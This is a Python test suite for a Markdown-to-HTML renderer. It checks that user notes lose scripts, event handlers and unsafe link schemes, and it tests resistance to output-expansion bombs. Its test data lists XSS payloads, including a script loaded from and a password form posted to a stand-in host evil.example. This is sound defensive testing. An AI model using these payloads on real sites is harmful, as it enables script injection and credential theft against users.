"""Learners' and editors' Markdown becomes HTML that can't do anything."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from roadmap.markdown import ATTRIBUTES, MAX_PIPES, TAGS, render
from roadmap.models import Note

LINK_ATTRIBUTES = ATTRIBUTES["a"] | {"rel"}


class Elements(HTMLParser):
    """The tags of a text, each with its attributes, as a browser would read them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.comments: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def assert_is_safe(html: str) -> None:
    elements = Elements(html)
    assert not elements.comments
    for tag, attributes in elements.found:
        assert tag in TAGS
        allowed = LINK_ATTRIBUTES if tag == "a" else ATTRIBUTES.get(tag, set())
        assert attributes.keys() <= allowed
        scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", attributes.get("href") or "", re.IGNORECASE)
        assert scheme is None or scheme[1].lower() in ("http", "https", "mailto")


def links(html: str) -> list[str | None]:
    return [attributes.get("href") for tag, attributes in Elements(html).found if tag == "a"]


DANGEROUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>body{display:none}</style>",
    "<form action=//evil.example><input name=password></form>",
    "<p style='position:fixed' onclick=alert(1) hx-post=/settings/ id=main>x</p>",
    "<!-- a comment -->",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '[x](https://example.org "onmouseover=alert(1) x=")',
    '[x](https://example.org" onclick="alert(1))',
    "[a]: javascript:alert(1)\n\n[a]",
    '```"onclick=alert(1)\ncode\n```',
    "| <script>alert(1)</script> | b |\n|---|---|\n| [x](javascript:a) | ![y](data:b) |",
    "- [x] <input onfocus=alert(1) autofocus>",
    "`</code><script>alert(1)</script>`",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_nothing_dangerous_survives(text: str) -> None:
    html = render(text)
    assert_is_safe(html)
    assert "<script" not in html.lower()


@given(
    st.lists(
        st.one_of(
            st.sampled_from(DANGEROUS),
            st.sampled_from(list("[]()!<>`*_|#&;:\"'\\\n\t -=~")),
            st.text(max_size=8),
        ),
        max_size=20,
    ).map("".join)
)
@example("<<script>script>alert(1)<</script>/script>")
def test_no_mixture_of_marks_is_dangerous(text: str) -> None:
    assert_is_safe(render(text))


def test_an_image_becomes_a_link_to_it() -> None:
    html = render("![A plot](https://example.org/plot.png)")
    assert links(html) == ["https://example.org/plot.png"]
    assert "A plot" in html
    assert "<img" not in html


def test_links_do_not_vouch_for_where_they_lead() -> None:
    html = render("[site](https://example.org) and https://example.com")
    assert links(html) == ["https://example.org", "https://example.com"]
    assert html.count('rel="nofollow noopener noreferrer"') == 2


def test_a_mail_address_may_be_linked() -> None:
    assert links(render("[write](mailto:alice@example.org)")) == ["mailto:alice@example.org"]


@pytest.mark.parametrize("scheme", ["ftp", "tel", "magnet", "ms-settings", "file"])
def test_other_schemes_lead_nowhere(scheme: str) -> None:
    addresses = links(render(f"[a]({scheme}:b) ![c]({scheme}:d) <{scheme}:e>"))
    assert len(addresses) == 3
    assert set(addresses) <= {None, "#harmful-link"}


def test_headings_start_below_those_of_the_page() -> None:
    html = render("# One\n\n## Two\n\n##### Five\n\n###### Six")
    assert [tag for tag, _ in Elements(html).found] == ["h3", "h4", "h6", "h6"]


def test_task_lists_show_boxes_that_cannot_be_ticked() -> None:
    boxes = [a for tag, a in Elements(render("- [x] read\n- [ ] write")).found if tag == "input"]
    assert [("checked" in box, "disabled" in box) for box in boxes] == [(True, True), (False, True)]
    assert {box["type"] for box in boxes} == {"checkbox"}


def test_what_learners_write_works() -> None:
    html = render(
        "A *slope* is **steep**, ~~flat~~.\n\n> so it is\n\n3. third\n\n"
        "```python\nx < 1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    for piece in (
        "<em>slope</em>",
        "<strong>steep</strong>",
        "<del>flat</del>",
        "<blockquote>",
        '<ol start="3">',
        '<code class="language-python">x &lt; 1',
        "<td>2</td>",
    ):
        assert piece in html


def test_html_is_shown_as_it_was_typed() -> None:
    assert render("use <b> here") == "<p>use &lt;b&gt; here</p>\n"


def test_a_table_with_as_many_pipes_as_allowed_is_a_table() -> None:
    rows = (MAX_PIPES - 6) // 3
    text = "|a|b|\n|-|-|\n" + "|1|2|\n" * rows
    assert render(text).count("<tr>") == rows + 1


def test_a_note_made_of_pipes_gets_no_table() -> None:
    assert "<table>" not in render("|a|b|\n|-|-|\n" + "|1|2|\n" * MAX_PIPES)


def largest(unit: str) -> str:
    """A note as long as notes may be, made of one unit over and over."""
    return (unit * (Note.MAX_LENGTH // len(unit) + 1))[: Note.MAX_LENGTH]


BOMBS = {
    "table": "|a|a|a|a|\n|-|-|-|-|\n" + largest("|a|a|a|a|\n"),
    "wide table": "|" * 6000 + "\n" + "|-" * 6000,
    "small tables": largest("|a|\n|-|\n\n"),
    "reference": "[a]: http://" + "x" * 10_000 + "\n\n" + "[a] " * 2_490,
    "definitions": largest("[a]: b\n"),
    "quote": largest(">"),
    "quotes": largest(">a\n\n"),
    "list in list": "".join(" " * 2 * depth + "- a\n" for depth in range(135)),
    "quote in list": largest("> - "),
    "brackets": largest("["),
    "images": largest("!["),
    "closing": "[" * 6000 + "a" + "](b)" * 3400,
    "links": largest("[](a)"),
    "open links": largest("[a]("),
    "emphasis": largest("*a"),
    "unmatched": "*a " * 1500 + "b* " * 1500,
    "mixed": largest("*_~~`"),
    "backticks": "".join("`" * length + " " for length in range(1, 199)),
    "entities": largest("&#"),
    "tags": largest("<a b='"),
    "comments": largest("<!--"),
    "boxes": largest("- [ ] \n"),
    "addresses": largest("<a@b.c>"),
    "headings": largest("#\n"),
    "nul": largest("\x00"),
    "blank": largest(" "),
    "surrogates": largest("\ud800"),
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_makes_no_more_than_thirteen_times_its_length(name: str) -> None:
    html = render(BOMBS[name])
    assert len(html) <= 13 * Note.MAX_LENGTH
    assert_is_safe(html)


def test_deeply_nested_text_is_not_lost() -> None:
    html = render("".join(" " * 2 * depth + f"- item{depth}\n" for depth in range(40)))
    assert [f"item{depth}" in html for depth in (0, 7, 39)] == [True, True, True]


def test_broken_characters_are_replaced() -> None:
    assert render("a \ud800 [b](http://\udfff.example)").startswith("<p>a ? ")
    assert "\x00" not in render("a\x00b")


def test_nothing_is_nothing() -> None:
    assert render("") == ""
    assert render(" \n\n ") == ""
